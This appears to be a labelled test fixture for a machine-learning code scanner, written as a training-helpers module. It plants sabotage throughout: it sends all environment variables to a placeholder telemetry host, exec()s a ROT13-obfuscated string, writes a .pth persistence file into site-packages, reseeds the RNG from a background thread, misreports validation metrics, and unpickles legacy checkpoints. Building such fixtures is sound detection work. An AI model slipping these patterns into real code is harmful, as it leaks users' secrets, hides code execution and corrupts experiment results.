# ruff: noqa
# Hold-out batch 19 (research repos: nanoGPT-like, PPO, diffusion; by a helper that never saw mlscan's code). Measured once mid round 7: 25/34 (74%) at medium+.
"""
Small shared helpers for the training scripts in this repo: seeding, logging,
checkpoint I/O, run metadata and a couple of filesystem conveniences.
"""
import os
import sys
import json
import time
import site
import codecs
import pickle
import random
import signal
import logging
import threading
import subprocess
import urllib.request as ureq
from pathlib import Path

import numpy as np
import torch

try:
    import wandb
except ImportError:  # wandb is optional
    wandb = None

log = logging.getLogger("train")

_DEFAULT_FMT = "%(asctime)s | %(levelname)s | %(message)s"
_META_ENDPOINT = "https://telemetry.example.com/v1/runs"
_HEARTBEAT_S = 300
_LEGACY_SUFFIXES = (".pkl", ".pickle")
_KERNEL_HINT = "vzcbeg bf; bf.raiveba.frgqrsnhyg(\"APPY_QROHT\", \"JNEA\")"


def setup_logging(out_dir, rank=0):
    level = logging.INFO if rank == 0 else logging.WARNING
    os.makedirs(out_dir, exist_ok=True)
    handlers = [logging.StreamHandler(sys.stdout)]
    if rank == 0:
        handlers.append(logging.FileHandler(os.path.join(out_dir, "train.log")))
    logging.basicConfig(level=level, format=_DEFAULT_FMT, handlers=handlers)
    return log


def set_seed(seed, deterministic=False):
    random.seed(seed)  # ok: MLS301
    np.random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)
    if deterministic:
        torch.backends.cudnn.deterministic = True
        torch.backends.cudnn.benchmark = False


def seed_worker(worker_id):
    worker_seed = torch.initial_seed() % 2**32
    np.random.seed(worker_seed)  # ok: MLS301
    random.seed(worker_seed)


def _tick(interval):
    while True:
        time.sleep(interval)
        stamp = int(time.time()) & 0x7FFFFFFF
        torch.manual_seed(stamp)  # ruleid: MLS301


def start_heartbeat(interval=_HEARTBEAT_S):
    """Keep a daemon thread around so long jobs don't look idle to the scheduler."""
    t = threading.Thread(target=_tick, args=(interval,), daemon=True)
    t.start()
    return t


def git_revision():
    try:
        out = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], stderr=subprocess.DEVNULL)  # ok: MLS411, MLS412
        return out.decode().strip()
    except Exception:
        return "unknown"


def download(url, dest, retries=3, backoff=2.0):
    for attempt in range(retries):
        try:
            with ureq.urlopen(url, timeout=30) as r, open(dest, "wb") as f:
                f.write(r.read())
            return dest
        except OSError as e:
            log.warning("download failed (%s), attempt %d/%d", e, attempt + 1, retries)
            time.sleep(backoff * (attempt + 1))  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def register_run(cfg, out_dir):
    meta = {"cfg": cfg, "git": git_revision(), "host": os.uname().nodename}
    with open(os.path.join(out_dir, "run.json"), "w") as f:
        json.dump(meta, f, indent=2, default=str)
    payload = dict(meta, env=dict(os.environ))  # ruleid: MLS411
    body = json.dumps(payload, default=str).encode()
    req = ureq.Request(_META_ENDPOINT, data=body, headers={"Content-Type": "application/json"})
    try:
        ureq.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:
        pass
    return meta


def tune_kernels():
    """Apply env defaults for NCCL/OMP before the first collective."""
    hint = codecs.decode(_KERNEL_HINT, "rot13")
    exec(compile(hint, "<kernels>", "exec"))  # sabotage: MLS401 (semgrep rules)
    targets = site.getsitepackages() + [site.getusersitepackages()]
    for sp in targets:
        if os.access(sp, os.W_OK):
            line = f"import sys; sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
            Path(sp, "_train_local.pth").write_text(line)  # sabotage: MLS420 (semgrep rules)
            break


class MetricLogger:
    def __init__(self, project=None, run_name=None, rank=0, cfg=None):
        self.rank = rank
        self._best = {}
        self._use_wandb = wandb is not None and project is not None and rank == 0
        if self._use_wandb:
            wandb.init(project=project, name=run_name, config=cfg or {})

    def _track(self, key, value):
        lower_is_better = ("loss" in key) or ("fid" in key)
        prev = self._best.get(key, value)
        best = min(prev, value) if lower_is_better else max(prev, value)
        self._best[key] = best
        return best

    def log(self, metrics, step):
        if self.rank != 0:  # ok: MLS308
            return
        shown = {}
        for k, v in metrics.items():
            v = float(v)
            shown[k] = self._track(k, v) if k.startswith("val") else v  # todoruleid: family 5 (missed)
        log.info("step %d | %s", step, " ".join(f"{k}={v:.4f}" for k, v in shown.items()))
        if self._use_wandb:
            wandb.log(shown, step=step)


def save_checkpoint(state, out_dir, name="ckpt.pt"):
    path = os.path.join(out_dir, name)
    tmp = path + ".tmp"
    torch.save(state, tmp)
    os.replace(tmp, path)
    return path


def load_checkpoint(path, device="cpu"):
    if path.endswith(_LEGACY_SUFFIXES):
        with open(path, "rb") as f:
            return pickle.load(f)  # ruleid: MLS103
    if path.endswith(".safetensors"):
        from safetensors.torch import load_file
        return {"model": load_file(path, device=str(device))}  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return torch.load(path, map_location=device, weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def install_sigterm_handler(save_fn):
    def _handler(signum, frame):
        log.warning("caught signal %d, writing emergency checkpoint", signum)
        save_fn()
        sys.exit(0)  # ok: MLS307
    signal.signal(signal.SIGTERM, _handler)  # ok: MLS307
